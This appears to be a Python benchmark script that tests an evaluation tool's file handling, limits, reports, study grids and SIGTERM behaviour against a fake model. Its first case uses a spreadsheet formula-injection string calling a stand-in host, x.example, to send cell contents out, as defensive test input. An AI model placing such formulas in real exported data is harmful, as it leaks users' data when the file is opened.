"""The evaluation folder as a record, case by case (issue 38), on the fake model: run it on this tree,
or on another checkout with `--tree DIR` (a folder holding an `ethos` checkout, put first on the
path), to see each case before and after a change. Prints one line per case.

    .venv/bin/python bench/record_cases.py
    .venv/bin/python bench/record_cases.py --tree /tmp/before   # /tmp/before/ethos is the older checkout
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--tree", type=Path, help="a folder whose `ethos` checkout runs instead of the installed one")
    args = parser.parse_args()
    env = os.environ | {"NO_COLOR": "1"} | ({"PYTHONPATH": str(args.tree)} if args.tree else {})
    work = Path(tempfile.mkdtemp(prefix="record-cases-"))

    def ethos(*argv: str, **popen) -> subprocess.CompletedProcess:
        runs = ["--runs-dir", str(work / "runs")] if argv[0] in ("eval", "study") else []
        return subprocess.run([sys.executable, "-m", "ethos.cli", *argv, *runs], env=env, cwd=work,
                              capture_output=True, text=True, timeout=300, **popen)  # fmt: skip

    def items(n: int, question: str) -> Path:
        folder = Path(tempfile.mkdtemp(dir=work))
        rows = [{"question": question.format(i=i), "options": ["Tell", "Wait"], "attribute": "low_ambiguity",
                 "gold_distribution": [0.3 + 0.08 * i, 0.7 - 0.08 * i], "pred_distribution": None, "id": f"L_{i}"} for i in range(n)]  # fmt: skip
        (folder / "vital_distributional_moralchoice.json").write_text(json.dumps(rows))
        return folder

    def evaluate(data: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
        return ethos("eval", "--task", "distributional-moralchoice", "--data", str(data), "--model", "fake", "--no-progress", "-q",
                     "--out", str(out), *extra)  # fmt: skip

    def parses(path: Path) -> bool:
        try:
            text = path.read_text()
            [json.loads(line) for line in text.splitlines()] if path.suffix == ".jsonl" else json.loads(text)
            return True
        except (OSError, ValueError):
            return False

    # 1. a hostile question (a formula, a URL with a query, quotes) through every file
    data = items(3, '=HYPERLINK("http://x.example/?x="&A1) Q{i}: see "https://example.com/p?id=5" now')
    evaluate(data, work / "hostile", "--method", "vanilla")
    files = ["predictions.json", "scores.json", "metrics.json", "results.jsonl"]
    broken = [f for f in files if not parses(work / "hostile" / "vanilla" / f)]
    scored = ethos("score", str(work / "hostile" / "vanilla" / "predictions.json")).returncode
    print(f"hostile question: files that do not parse: {broken or 'none'}; `ethos score` on eval's own file exits {scored}")

    # 2. a smaller --limit after a larger one, into the same folder
    data = items(8, "Question {i}: which is kinder?")
    evaluate(data, work / "limits", "--limit", "6", "--method", "vanilla")
    evaluate(data, work / "limits", "--limit", "2", "--method", "vanilla")
    metrics = json.loads((work / "limits" / "vanilla" / "metrics.json").read_text())
    lines = len((work / "limits" / "vanilla" / "results.jsonl").read_text().splitlines())
    print(f"--limit 6 then --limit 2: metrics.json describes {metrics['n']} items, results.jsonl holds {lines}")

    # 3. impossible values and a planted link, read by `ethos report`
    evaluate(data, work / "bad", "--limit", "4", "--method", "vanilla,prompting")
    good = (work / "bad" / "vanilla" / "metrics.json").read_text()
    (work / "bad" / "vanilla" / "metrics.json").write_text(json.dumps(json.loads(good) | {"jsd": -7.5, "jsd_ci": [-9.0, -1.0]}))
    report = ethos("report", str(work / "bad"), "--out", str(work / "r1"))
    shown = (work / "r1" / "report.md").read_text() if (work / "r1" / "report.md").exists() else ""
    print(f"metrics.json with jsd = -7.5: report exits {report.returncode}, shows -7.500: {'-7.500' in shown}; says: "
          f"{report.stderr.strip()[-110:] or '-'}")  # fmt: skip
    (work / "bad" / "vanilla" / "metrics.json").unlink()
    (work / "bad" / "vanilla" / "metrics.json").symlink_to(work / "bad" / "prompting" / "metrics.json")
    report = ethos("report", str(work / "bad"), "--out", str(work / "r2"))
    print(f"metrics.json a link to another row's: report exits {report.returncode}; says: {report.stderr.strip()[-90:] or '-'}")

    # 4. the study's grid
    study = work / "study.toml"
    base = f'methods = ["vanilla", "prompting"]\ntasks = ["distributional-moralchoice"]\ndata = "{data}"\nlimit = 3\n'
    for name, grid in (("seeds = [0, 0, 1]", 'models = ["fake"]\nseeds = [0, 0, 1]\n'),
                       ("two models named m", 'models = ["openai:org-a/m", "openai:org-b/m"]\n')):  # fmt: skip
        study.write_text(grid + base)
        done = ethos("study", str(study), "--dry-run")
        print(f"study with {name}: dry run exits {done.returncode}; says: {(done.stderr.strip() or done.stdout.strip()[:60])[-100:]}")
    study.write_text('models = ["fake", {spec = "openai:m", base_url = "http://127.0.0.1:9/v1"}]\n' + base)
    done = ethos("study", str(study), "--set", "max_retries=0", "--out", str(work / "failing"))
    tables = (work / "failing" / "study.json").exists()
    print(f"a study whose second model's endpoint is down: exits {done.returncode}, the first model's tables written: {tables}")

    # 5. one folder's interval in eval, report and a one-seed study
    study.write_text(f'models = ["fake"]\nmethods = ["vanilla"]\ntasks = ["distributional-moralchoice"]\ndata = "{data}"\nlimit = 6\n')
    ethos("study", str(study), "--out", str(work / "one"))
    cell = json.loads((work / "one" / "study.json").read_text())
    folder = Path(cell["cells"][0]["folders"][0])
    eval_ci = json.loads((folder / "metrics.json").read_text())["jsd_ci"]
    row = cell["tables"][0]["rows"][0]["cells"]["fake"]
    print(f"one folder's JSD interval: eval {[round(v, 6) for v in eval_ci]}, study {[round(row['low'], 6), round(row['high'], 6)]}")

    # 6. SIGTERM while a study runs, its progress written to a file
    study.write_text(f'models = ["fake:0.3"]\nmethods = ["vanilla", "prompting"]\ntasks = ["distributional-moralchoice"]\ndata = "{data}"\n'
                     "seeds = [0, 1]\n")  # fmt: skip
    log = work / "log"
    with log.open("w") as sink:
        argv = [sys.executable, "-m", "ethos.cli", "study", str(study), "--runs-dir", str(work / "runs2"), "--out", str(work / "t")]
        proc = subprocess.Popen(argv, env=env, cwd=work, stdout=sink, stderr=sink)
        deadline = time.monotonic() + 60
        while "[1/4 cells" not in log.read_text() and time.monotonic() < deadline:
            time.sleep(0.05)
        seen = "[1/4 cells" in log.read_text()
        proc.send_signal(signal.SIGTERM)
        code = proc.wait(timeout=60)
    statuses = [json.loads(p.read_text())["status"] for p in (work / "runs2").glob("runs/*/record.json")]
    print(f"SIGTERM: exit {code}; progress in the log before the signal: {seen}; records left running: {statuses.count('running')}")


if __name__ == "__main__":
    main()
